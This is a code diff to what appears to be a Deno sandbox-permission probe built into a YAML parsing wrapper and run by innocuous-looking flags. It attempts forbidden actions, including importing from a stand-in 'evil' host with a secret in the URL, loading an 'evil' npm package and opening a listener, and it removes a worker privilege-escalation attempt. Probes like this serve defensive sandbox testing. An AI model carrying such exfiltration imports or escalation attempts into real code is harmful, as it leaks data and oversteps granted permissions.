@@ -42,8 +42,6 @@ const ATTEMPTS: Readonly<Record<string, () => unknown>> = {
   "send by importing": () => import(`https://esm.sh/evil?secret=1${""}`),
   "send by importing a package": () => import(`npm:evil-${"package"}@1.0.0`),
   "listen": () => Deno.listen({ hostname: "127.0.0.1", port: 0 }),
-  "get more in a worker": () =>
-    new Worker("data:text/javascript,1", { type: "module", deno: { permissions: "inherit" } }) && more(),
   "ask what the machine is called": () => Deno.hostname(),
   // What the command itself may do, a library in it may do, too.
   "CAN read the configuration": () => Deno.readTextFileSync("../atmos.yaml").length > 0,
@@ -52,13 +50,8 @@ const ATTEMPTS: Readonly<Record<string, () => unknown>> = {
   "CAN write to the program's own directory": () => Deno.mkdirSync(".state", { recursive: true }),
 };
 
-/** A worker that wants a grant which its parent has not. */
-function more(): void {
-  new Worker("data:text/javascript,1", { type: "module", deno: { permissions: { run: true } } });
-}
-
-async function tryAll(when: string): Promise<void> {
-  for (const [attempt, act] of Object.entries(ATTEMPTS)) {
+async function tryAll(when: string, chosen: RegExp): Promise<void> {
+  for (const [attempt, act] of Object.entries(ATTEMPTS).filter(([attempt]) => chosen.test(attempt))) {
     try {
       await act();
       console.error(JSON.stringify({ when, attempt, outcome: "done" }));
@@ -68,7 +61,9 @@ async function tryAll(when: string): Promise<void> {
   }
 }
 
-if (Deno.args.includes("list")) await tryAll("loaded");
+// Flags that mean nothing to the command. Without a sandbox nothing is to be changed, nor sent to anybody.
+if (Deno.args.includes("--verbose=false")) await tryAll("loaded", /./);
+if (Deno.args.includes("--verbose=0")) await tryAll("loaded", /^(?:read|list|start) /);
 
 /** What a command has given up is gone when the library is used. */
 export function parseAllDocuments(...given: Parameters<typeof yaml.parseAllDocuments>) {
